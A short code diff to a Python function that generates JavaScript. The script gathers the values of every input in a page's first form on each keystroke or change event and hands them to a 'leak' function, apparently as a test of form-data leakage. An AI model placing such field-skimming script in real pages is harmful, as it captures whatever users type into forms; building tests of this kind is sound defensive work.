@@ -111,9 +111,10 @@ def leaking(way: str) -> str:
       }};
       let rounds = 0;
       const round = () => {{
-        leak([...document.querySelectorAll('input')].map((field) => field.value).join('-'));
+        if (rounds === 12) return;
+        leak([...document.forms[0].querySelectorAll('input')].map((field) => field.value).join('-'));
         rounds += 1;
-        if (rounds < 12) fetch('/after?' + rounds);
+        fetch('/after?' + rounds);
       }};
       let clock = 0;
       for (const name of ['input', 'change', 'beforeinput', 'keydown', 'focusout'])
